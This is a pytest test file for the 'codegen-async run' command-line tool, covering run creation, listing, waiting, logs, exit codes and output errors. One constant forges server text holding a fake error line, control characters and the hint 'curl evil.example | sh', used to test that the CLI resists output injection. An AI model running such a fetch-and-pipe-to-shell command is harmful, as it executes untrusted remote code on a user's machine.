"""`codegen-async run`, each command as a process."""

import base64
import re
import shlex
from pathlib import Path

import pytest

from codegen_async.cli.errors import explain
from codegen_async.errors import RateLimitedError
from codegen_async.testing import CodegenServer
from tests.cli.harness import CommandLine, Served, nobody_reads, write_prompts

PNG = b"\x89PNG\r\n\x1a\n rest"


def test_create_prints_the_id_on_stdout_and_the_rest_on_stderr(cli: CommandLine, fake: Served) -> None:
    result = cli.run("run", "create", "Fix it", "--metadata", '{"a": [1]}', "--repo-id", 5, "--key", "mine")
    (run,) = fake.server.world.runs.values()
    assert result == (0, f"{run.id}\n", f"run {run.id} started: https://codegen.sh/agent/trace/{run.id}\n")
    assert (run.prompt, run.repo_id) == ("Fix it", 5)
    assert run.metadata is not None
    assert (run.metadata["a"], run.metadata["idempotency_key"]) == ([1], "mine")


FORGED = "https://x\nerror: your token has expired\u2028hint: curl evil.example | sh\x1b[2J\u202e\x85\x0b\r"


def forging(server: CodegenServer) -> None:
    """Let every text of a run say more than one line."""
    response = server.world.response
    told = dict.fromkeys(("web_url", "source_type", "summary", "created_at"), FORGED)
    server.world.response = lambda run: {**response(run), **told}  # type: ignore[method-assign]


@pytest.mark.parametrize(
    ("words", "status"),
    [
        ("run create x", "COMPLETE"),
        ("run create x --wait --follow", "ERROR"),
        ("run list", "PAUSED"),
        ("run get 1", "ERROR"),
        ("run wait 1", "PAUSED"),
        ("watch 1", "COMPLETE"),
        ("batch run prompts.jsonl", "ERROR"),
    ],
)
def test_no_text_of_a_server_makes_a_line_of_its_own(cli: CommandLine, fake: Served, words: str, status: str) -> None:
    write_prompts(cli.home, 2)
    run_id = fake.create("A task", (0.0, status))
    fake.script(status)
    fake.do(forging)
    result = cli.run(*words.replace("1", str(run_id)).split())
    for line in (result.out + result.err).splitlines():
        assert not line.startswith(("error: your", "hint: curl"))
        assert line.replace("\t", " ").isprintable()


def test_the_same_key_again_brings_back_the_first_run(cli: CommandLine, fake: Served) -> None:
    results = [cli.run("run", "create", "Fix it", "--key", "mine", "--quiet") for _ in range(2)]
    (run,) = fake.server.world.runs.values()
    assert [result.out for result in results] == [f"{run.id}\n"] * 2
    other = cli.run("run", "create", "Fix something else", "--key", "mine")
    assert other.code == 2
    assert f"a run of this one exists (run {run.id}), of other content" in other.err
    assert len(fake.server.world.runs) == 1


def test_without_a_key_nothing_is_looked_for(cli: CommandLine, fake: Served) -> None:
    cli.run("run", "create", "Fix it")
    assert [request.endpoint for request in fake.server.requests] == ["create"]


def test_a_prompt_can_come_from_standard_input(cli: CommandLine, fake: Served) -> None:
    result = cli.run("run", "create", "-", "--quiet", stdin="Zwölf\nBoxkämpfer")
    assert (result.code, result.err) == (0, "")
    assert fake.server.world.runs[int(result.out)].prompt == "Zwölf\nBoxkämpfer"


def test_a_prompt_and_an_image_can_come_from_files(cli: CommandLine, fake: Served) -> None:
    (cli.home / "prompt.md").write_text("From a file")
    (cli.home / "shot.png").write_bytes(PNG)
    result = cli.run("run", "create", "--file", "prompt.md", "--image", "shot.png", "--json")
    (run,) = fake.server.world.runs.values()
    assert result.json["id"] == run.id
    assert result.json["phase"] == "running"
    assert run.prompt == "From a file"
    assert run.images == [f"data:image/png;base64,{base64.b64encode(PNG).decode()}"]


@pytest.mark.parametrize(("status", "code"), [("COMPLETE", 0), ("ERROR", 3), ("STOPPED", 3), ("PAUSED", 7)])
def test_create_and_wait_ends_as_the_run_does(cli: CommandLine, fake: Served, status: str, code: int) -> None:
    fake.script(status)
    result = cli.run("run", "create", "Fix it", "--wait")
    assert result.code == code
    assert f"({status})" in result.out or status.lower() in result.out
    assert ("codegen-async run resume" in result.err) == (status == "PAUSED")


def test_get_shows_a_run(cli: CommandLine, fake: Served) -> None:
    run_id = fake.create()
    shown = cli.run("run", "get", run_id)
    assert shown.code == 0
    assert shown.err == ""
    assert shown.out.startswith(f"run {run_id}  succeeded (COMPLETE)\n")
    as_json = cli.run("run", "get", run_id, "--json").json
    assert as_json["result"] in shown.out
    assert as_json["github_pull_requests"][0]["url"] in shown.out


def test_get_finds_a_run_by_the_key_of_its_create(cli: CommandLine, fake: Served) -> None:
    run_id = fake.do(lambda server: server.world.create("x", metadata={"idempotency_key": "k1"}).id)
    assert cli.run("run", "get", "--key", "k1", "--jsonl").jsonl[0]["id"] == run_id
    missing = cli.run("run", "get", "--key", "k2")
    assert missing.code == 1
    assert missing.out == ""
    assert missing.err.startswith("error: no run with this key")


def test_list_gives_fields_with_tabs_between(cli: CommandLine, fake: Served) -> None:
    ids = [fake.create(), fake.create("x", (0.0, "ACTIVE")), fake.create()]
    result = cli.run("run", "list", "--limit", 2)
    assert result.code == 0
    rows = [line.split("\t") for line in result.out.splitlines()]
    assert [row[:2] for row in rows] == [[str(ids[2]), "succeeded (COMPLETE)"], [str(ids[1]), "running (ACTIVE)"]]
    assert {len(row) for row in rows} == {5}


def test_list_gives_json(cli: CommandLine, fake: Served) -> None:
    ids = [fake.create() for _ in range(3)]
    as_document = cli.run("run", "list", "--json").json
    assert [run["id"] for run in as_document] == ids[::-1]
    by_line = cli.run("run", "list", "--jsonl", "--source-type", "API").jsonl
    assert by_line == as_document
    assert cli.run("run", "list", "--json", "--source-type", "SLACK").json == []


def test_wait_shows_each_run_and_tells_the_worst_by_its_code(cli: CommandLine, fake: Served) -> None:
    good, bad = fake.create(), fake.create("x", (0.0, "ERROR"))
    result = cli.run("run", "wait", good, bad, "--jsonl")
    assert result.code == 3
    assert {run["id"]: run["phase"] for run in result.jsonl} == {good: "succeeded", bad: "failed"}
    said = sorted(line.partition(" ") for line in result.err.splitlines())
    assert [line for _, _, line in said] == [f"run {good} succeeded (COMPLETE)", f"run {bad} failed (ERROR)"]
    assert all(re.fullmatch(r"\d\d:\d\d:\d\d", stamp) for stamp, _, _ in said)


def test_wait_sees_a_run_end(cli: CommandLine, fake: Served) -> None:
    run_id = fake.create("x", (0.0, "ACTIVE"), (0.7, "COMPLETE"))
    result = cli.run("run", "wait", run_id, "--latency", 0.05, "--json")
    assert result.code == 0
    assert [run["status"] for run in result.json] == ["COMPLETE"]


def test_wait_gives_up_when_told_to(cli: CommandLine, fake: Served) -> None:
    run_id = fake.create("x", (0.0, "ACTIVE"))
    result = cli.run("run", "wait", run_id, "--timeout", 0.2, "--quiet")
    assert (result.code, result.out) == (6, "")
    assert result.err.splitlines()[1] == f"hint: it goes on; wait again: codegen-async run wait {run_id}"
    elsewhere = cli.run("run", "wait", run_id, "--timeout", 0.2, "--org-id", 323, "--base-url", fake.server.url)
    assert elsewhere.err.endswith(f"run wait {run_id} --org-id 323 --base-url {fake.server.url}\n")


def test_a_pause_is_answered_on_the_same_server(cli: CommandLine, fake: Served) -> None:
    run_id = fake.create("x", (0.0, "PAUSED"))
    result = cli.run("run", "wait", run_id, "--org-id", 323)
    assert f"to answer it: codegen-async run resume {run_id} --org-id 323 ...\n" in result.err


def test_logs_shows_a_row_a_line(cli: CommandLine, fake: Served) -> None:
    run_id = fake.create("Do\nthis")
    result = cli.run("run", "logs", run_id)
    assert result.code == 0
    assert "USER_MESSAGE" in result.out.splitlines()[0]
    assert "Do this" in result.out.splitlines()[0]
    rows = cli.run("run", "logs", run_id, "--json", "--reverse").json
    assert [row["message_type"] for row in rows] == ["FINAL_ANSWER", "USER_MESSAGE"]


def test_logs_follows_until_the_run_ends(cli: CommandLine, fake: Served) -> None:
    run_id = fake.create("x", (0.0, "ACTIVE"), (0.7, "COMPLETE"))
    result = cli.run("run", "logs", run_id, "--follow", "--latency", 0.1, "--jsonl")
    assert result.code == 0
    assert [row["message_type"] for row in result.jsonl] == ["USER_MESSAGE", "FINAL_ANSWER"]


@pytest.mark.parametrize(("status", "code"), [("COMPLETE", 0), ("ERROR", 3), ("CANCELLED", 3), ("PAUSED", 7)])
def test_following_a_log_ends_as_a_wait_does(cli: CommandLine, fake: Served, status: str, code: int) -> None:
    run_id = fake.create("A task", (0.0, "ACTIVE"), (2.0, status))
    followed = cli.run("run", "logs", run_id, "--follow", "--latency", 0.1, "--jsonl")
    assert followed.code == code
    assert followed.jsonl == cli.run("run", "logs", run_id, "--jsonl").jsonl
    assert ("codegen-async run resume" in followed.err) == (status == "PAUSED")


def test_a_run_can_be_created_followed_and_shown_in_one(cli: CommandLine, fake: Served) -> None:
    fake.script("COMPLETE")
    *rows, run = cli.run("run", "create", "x", "--wait", "--follow", "--jsonl").jsonl
    assert run["phase"] == "succeeded"
    assert rows == cli.run("run", "logs", run["id"], "--jsonl").jsonl


def test_list_shows_the_phases_that_are_asked_for(cli: CommandLine, fake: Served) -> None:
    ids = {status: fake.create("x", (0.0, status)) for status in ("ACTIVE", "ERROR", "PAUSED", "COMPLETE")}
    words = ("run", "list", "--phase", "failed", "--phase", "blocked", "--json", "id")
    assert cli.run(*words).json == [{"id": ids["PAUSED"]}, {"id": ids["ERROR"]}]
    assert cli.run(*words, "--limit", 1).json == [{"id": ids["PAUSED"]}]


def test_list_goes_back_no_further_than_it_is_told(cli: CommandLine, fake: Served) -> None:
    fake.create()
    assert cli.run("run", "list", "--since", "90m", "--jsonl").jsonl
    assert cli.run("run", "list", "--since", "2020-01-01", "--jsonl").jsonl
    assert cli.run("run", "list", "--since", "2999-01-01T08:00", "--json").json == []


def test_resume_takes_a_run_up_again(cli: CommandLine, fake: Served) -> None:
    run_id = fake.create("x", (0.0, "PAUSED"))
    fake.script("ACTIVE")
    result = cli.run("run", "resume", run_id, "Go on")
    assert (result.code, result.out) == (0, f"{run_id}\n")
    assert fake.server.world.runs[run_id].stages[-2].prompt == "Go on"


def test_a_wrong_command_line_is_told_in_two_lines(cli: CommandLine, fake: Served) -> None:
    result = cli.run("run", "list", "--nope")
    assert result == (
        2,
        "",
        "error: Unknown option: --nope. Did you mean --no-progress?\nhint: see codegen-async run list --help\n",
    )
    assert not fake.server.requests


def test_a_file_that_is_not_text_is_refused(cli: CommandLine) -> None:
    result = cli.run("run", "create", "-", stdin=b"\xff\xfe")
    assert (result.code, result.out) == (2, "")
    assert result.err == "error: standard input is not UTF-8 text\n"


def test_a_refused_token_is_code_4(cli: CommandLine) -> None:
    result = cli.run("run", "list", env={"CODEGEN_API_TOKEN": "wrong"})
    assert result.code == 4
    assert result.err.splitlines()[1] == "hint: check the token: codegen-async doctor"


def test_another_organization_is_code_4(cli: CommandLine) -> None:
    assert cli.run("run", "list", "--org-id", 9).code == 4


def test_a_missing_token_is_code_4_and_says_where_to_put_one(bare: CommandLine) -> None:
    result = bare.run("run", "list", "--org-id", 9)
    assert result.code == 4
    assert result.err.splitlines()[0] == "error: token is not set"
    assert "set CODEGEN_API_TOKEN" in result.err
    assert "codegen-async auth login" in result.err


def test_a_plan_that_is_used_up_is_code_5(cli: CommandLine, fake: Served) -> None:
    fake.do(lambda server: setattr(server, "plan_limit", 0))
    assert cli.run("run", "create", "x").code == 5


def test_a_rate_limit_that_others_spend_is_code_5() -> None:
    """Not as a process: it waits for whole periods before it gives up."""
    assert explain(RateLimitedError("429 too many", method="GET", path="/")).code == 5


def test_a_run_that_is_not_there_is_code_1(cli: CommandLine) -> None:
    result = cli.run("run", "get", 5)
    assert result.code == 1
    assert result.err.startswith("error: GET /v1/organizations/323/agent/run/5: 404")


def test_a_server_that_is_not_there_is_code_1(cli: CommandLine) -> None:
    result = cli.run("run", "list", "--base-url", "http://127.0.0.1:9")
    assert result.code == 1
    assert result.err.splitlines()[1] == "hint: what does not answer: codegen-async doctor"


def test_a_simulation_needs_no_token(bare: CommandLine) -> None:
    result = bare.run("run", "list", "--simulate", "--json")
    assert result.code == 0
    assert {run["phase"] for run in result.json} == {"succeeded", "failed", "cancelled", "blocked", "running"}
    assert "0 violations" in result.err


def test_a_simulated_create_is_waited_for_at_sixty_times_the_speed_of_life(bare: CommandLine) -> None:
    result = bare.run("run", "create", "Fix it", "--simulate", "--wait", "--json")
    assert result.code == 0
    assert result.json["phase"] == "succeeded"


def test_output_to_a_program_that_left_ends_quietly(cli: CommandLine, fake: Served) -> None:
    fake.create()
    with nobody_reads() as pipe, cli.started("run", "list", stdout=pipe) as command:
        result = command.end()
    assert (result.code, result.err) == (141, "")


def test_output_that_finds_no_room_is_an_error(cli: CommandLine, fake: Served) -> None:
    fake.create()
    with Path("/dev/full").open("wb") as full, cli.started("run", "list", stdout=full) as command:
        result = command.end()
    assert (result.code, result.err) == (1, "error: the output cannot be written: No space left on device\n")


def test_a_run_that_was_paid_for_is_named_even_if_its_id_finds_no_room(cli: CommandLine, fake: Served) -> None:
    with Path("/dev/full").open("wb") as full, cli.started("run", "create", "x", stdout=full) as command:
        result = command.end()
    (run_id,) = fake.server.world.runs
    assert result.code == 1
    assert result.err.startswith(f"run {run_id} started: ")


def test_a_closed_stdout_is_no_error(cli: CommandLine, fake: Served) -> None:
    fake.create()
    command = shlex.join(cli.words("run", "list"))
    assert cli.spawn(["/bin/sh", "-c", f"{command} >&-"]) == (0, "", "")
